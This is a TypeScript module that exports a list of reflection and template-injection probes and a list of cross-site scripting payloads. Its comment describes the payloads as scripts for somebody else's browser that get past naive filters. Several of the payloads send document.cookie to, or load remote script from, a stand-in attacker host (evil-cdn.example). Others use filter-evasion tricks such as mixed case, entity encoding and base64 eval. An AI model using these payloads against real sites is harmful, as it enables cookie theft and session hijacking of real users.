/** What is tried first: does the page write it back as it is? */
export const MARKUP_PROBES = [
  "<b>x1</b>",
  "'\"><x>",
  "${7*7}",
  "{{7*7}}",
  "javascript",
  "<u>hello</u>",
] as const;

/** Scripts for somebody else's browser, plain and past naive filters. */
export const SCRIPTS = [
  "<script>alert(document.domain)</script>",
  "<script>fetch('https://c.evil-cdn.example/?c='+document.cookie)</script>",
  '"><script src=https://evil-cdn.example/x.js></script>',
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=eval(atob('YWxlcnQoMSk='))>",
  "' onmouseover='alert(1)",
  "javascript:alert(document.cookie)",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<ScRiPt>prompt(1)</sCrIpT>",
  "<details open ontoggle=confirm(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<a href='jav&#x61;script:alert(1)'>win</a>",
  "</textarea><script>new Image().src='//evil-cdn.example/'+document.cookie</script>",
] as const;
